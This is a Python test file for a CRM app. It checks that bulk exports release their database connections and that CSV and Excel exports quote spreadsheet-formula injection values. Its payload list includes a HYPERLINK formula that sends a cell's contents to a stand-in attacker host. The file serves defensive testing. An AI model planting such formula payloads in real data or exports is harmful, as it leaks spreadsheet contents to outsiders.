"""Exports as an attacker would use them: many large exports in a row, a client that goes
away mid-stream, and values that a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io
import uuid

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from metacrm.config import Settings
from metacrm.engine.actor import SYSTEM
from metacrm.engine.db import make_engine
from metacrm.engine.writing import records

from conftest import ApiClient, signed_in

PASSWORD = "demo-password"
MANY = 230  # more than one batch of the exporter (200)


@pytest.fixture
def app_engine(engine, database_url):
    """The app's own engine with a small pool that fails fast, named on PostgreSQL so the
    test can find its connections in pg_stat_activity."""
    name = f"metacrm-test-{uuid.uuid4().hex[:10]}"
    extra = {"connect_args": {"application_name": name}} if engine.dialect.name != "sqlite" \
        else {}
    app_engine = make_engine(database_url, pool_size=3, max_overflow=0, pool_timeout=3, **extra)
    app_engine.application_name = name
    yield app_engine
    app_engine.dispose()


@pytest.fixture
def app(engine, app_engine, database_url, tmp_path):
    from metacrm.ui.app import create_app

    settings = Settings(database_url=database_url, secret_key="test-secret",
                        metadata_poll_seconds=0, instance_dir=tmp_path / "instance",
                        testing=True)
    return create_app(settings, engine=app_engine)


@pytest.fixture
def customers(engine, registry, people) -> None:
    with Session(engine) as s, s.begin():
        records.create_many(s, registry, "customer",
                            [{"name": f"客户{i:04d}", "owner": people["zhang"].user_id}
                             for i in range(MANY)], actor=SYSTEM)


def finance_api(app) -> ApiClient:
    client = app.test_client()
    token = client.post("/api/v1/auth/token", json={"username": "qian", "password": PASSWORD})
    return ApiClient(client, token.get_json()["token"])


def idle_in_transaction(engine, app_engine) -> list[str]:
    if engine.dialect.name == "sqlite":
        return []
    with engine.connect() as conn:
        return list(conn.execute(sa.text(
            "select state from pg_stat_activity where application_name = :name "
            "and state like 'idle in transaction%'"), {"name": app_engine.application_name})
            .scalars())


def test_many_large_api_exports_in_a_row_release_their_connections(
        app, engine, app_engine, customers):
    qian = finance_api(app)
    for _ in range(45):
        response = qian.get("/api/v1/objects/customer/export")
        assert response.status_code == 200
        assert len(list(csv.reader(io.StringIO(response.get_data(as_text=True))))) == MANY + 1
        response.close()
    assert qian.get("/api/v1/objects/customer/records").status_code == 200
    assert app_engine.pool.checkedout() == 0
    assert idle_in_transaction(engine, app_engine) == []


def test_many_large_page_exports_in_a_row_release_their_connections(
        app, engine, app_engine, customers):
    qian = signed_in(app, "qian", PASSWORD)
    for fmt in ("csv", "xlsx") * 21:
        response = qian.client.get(f"/o/customer/export?format={fmt}")
        assert response.status_code == 200
        assert len(response.get_data()) > 1000
        response.close()
    assert qian.get("/o/customer").status_code == 200
    assert app_engine.pool.checkedout() == 0
    assert idle_in_transaction(engine, app_engine) == []


def test_an_export_the_client_leaves_mid_stream_releases_its_connection(
        app, engine, app_engine, customers):
    qian = finance_api(app)
    for _ in range(10):
        response = qian.get("/api/v1/objects/customer/export", buffered=False)
        assert response.status_code == 200
        next(iter(response.response))
        response.close()  # the server closes the iterable when the client goes away
    assert app_engine.pool.checkedout() == 0
    assert idle_in_transaction(engine, app_engine) == []
    assert qian.get("/api/v1/objects/customer/records").status_code == 200


def test_an_export_never_started_by_the_client_releases_its_connection(
        app, engine, app_engine, customers):
    qian = finance_api(app)
    for _ in range(10):
        response = qian.get("/api/v1/objects/customer/export", buffered=False)
        assert response.status_code == 200
        response.close()
    assert app_engine.pool.checkedout() == 0
    assert idle_in_transaction(engine, app_engine) == []


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=1+1"]


@pytest.fixture
def planted(app, people) -> list[str]:
    """A rep names customers so that a spreadsheet would run them; the names are stored as
    typed."""
    client = app.test_client()
    token = client.post("/api/v1/auth/token", json={"username": "zhang", "password": PASSWORD})
    zhang = ApiClient(client, token.get_json()["token"])
    for name in FORMULAS:
        response = zhang.post("/api/v1/objects/customer/records", json={"name": name})
        assert response.status_code == 201, response.get_json()
        assert zhang.get(f"/api/v1/objects/customer/records/{response.get_json()['id']}") \
            .get_json()["name"] == name
    return FORMULAS


def exported_names(rows: list[list]) -> set:
    column = rows[0].index("客户名称")
    return {row[column] for row in rows[1:]}


def test_a_csv_export_quotes_values_that_would_run_as_formulas(app, planted):
    response = finance_api(app).get("/api/v1/objects/customer/export", buffered=True)
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert exported_names(rows) == {"'" + name for name in planted}


def test_a_csv_export_from_the_list_page_quotes_values_that_would_run_as_formulas(
        app, planted):
    response = signed_in(app, "qian", PASSWORD).client.get("/o/customer/export?format=csv",
                                                                    buffered=True)
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert exported_names(rows) == {"'" + name for name in planted}


def test_an_excel_export_writes_values_that_would_run_as_formulas_as_quoted_text(
        app, planted):
    response = signed_in(app, "qian", PASSWORD).client.get("/o/customer/export?format=xlsx")
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    # XML reads a stored CR as a line feed
    assert exported_names(rows) == {"'" + name.replace("\r", "\n") for name in planted}
    column = rows[0].index("客户名称")
    assert {row[column].data_type for row in sheet.iter_rows(min_row=2)} == {"s"}
